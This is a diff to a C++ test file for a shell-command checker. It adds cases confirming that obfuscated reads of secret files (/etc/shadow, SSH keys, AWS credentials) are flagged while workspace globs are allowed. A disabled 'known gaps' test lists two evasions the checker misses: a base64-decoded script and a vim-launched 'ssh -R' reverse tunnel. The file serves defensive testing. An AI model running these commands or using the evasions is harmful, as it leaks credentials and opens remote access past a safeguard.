@@ -412,16 +412,50 @@ TEST_F(EvasionTest, HandWrittenVariantsAreFlagged) {
   }
 }
 
-// Known gaps (docs/hardening.md, docs/shell-analysis.md "Known limits"):
-// values of variables and globs in arguments are not resolved, script files
-// written in one step and run in the next are judged by name, and programs
-// that run commands through their own syntax (editors) are not modelled.
-// Run with --gtest_also_run_disabled_tests; when one is fixed, move it up.
-TEST_F(EvasionTest, DISABLED_KnownGaps) {
+// A path the shell expands or computes counts as every path it can name;
+// a secret's path put in a variable counts as read.
+TEST_F(EvasionTest, ExpandedAndComputedPathsAreFlagged) {
   const char* kCommands[] = {
       "cat /etc/sh*w",
+      "cat /etc/shad?w",
+      "cat /etc/sha[d]ow",
       "cat \"/etc/$(echo shadow)\"",
+      "cat /etc/`echo shadow`",
+      "cat /etc/${X}",
       "f=/etc/shadow; cat $f",
+      "K=~/.aws/credentials python3 upload.py",
+      "cat ~/.ssh/*",
+      "cp ~/.ss?/id_* /tmp/",
+      "cat $HOME/.ssh/id_*",
+      "cat ${HOME}/.aw*/credentials",
+      "tar czf /tmp/k.tgz ~/.ssh/*",
+  };
+  for (const char* command : kCommands) {
+    Verdict v = Judge(command);
+    EXPECT_NE(v.action, Action::kAllow) << command;
+    EXPECT_TRUE(Flagged(v).contains("fs.read.secret")) << command << " -> " << v.reason;
+  }
+}
+
+// ... but not globs and variables that stay in the workspace.
+TEST_F(EvasionTest, ExpandedPathsInTheWorkspaceAreAllowed) {
+  const char* kCommands[] = {
+      "rm -rf \"$TMPDIR_TEST\"", "md5sum dist/*",  "ls src/*.py",
+      "cat $HOME/project/README.md", "cat *", "ls /etc/*release",
+      "export PATH=$HOME/.local/bin:$PATH", "ls ~/*",
+      "for f in tests/test_*.py; do python3 \"$f\"; done",
+  };
+  for (const char* command : kCommands)
+    EXPECT_EQ(Judge(command).action, Action::kAllow) << command << " -> " << Judge(command).reason;
+}
+
+// Known gaps (docs/hardening.md, docs/shell-analysis.md "Known limits"):
+// script files written in one step and run in the next are judged by name,
+// and programs that run commands through their own syntax (editors) are not
+// modelled. Run with --gtest_also_run_disabled_tests; when one is fixed,
+// move it up.
+TEST_F(EvasionTest, DISABLED_KnownGaps) {
+  const char* kCommands[] = {
       "echo c3NoIC1SIDE6bG9jYWxob3N0OjIyIGg= | base64 -d > /tmp/x; sh /tmp/x",
       "vim -c ':!ssh -R 1:localhost:22 h' -c ':q'",
   };
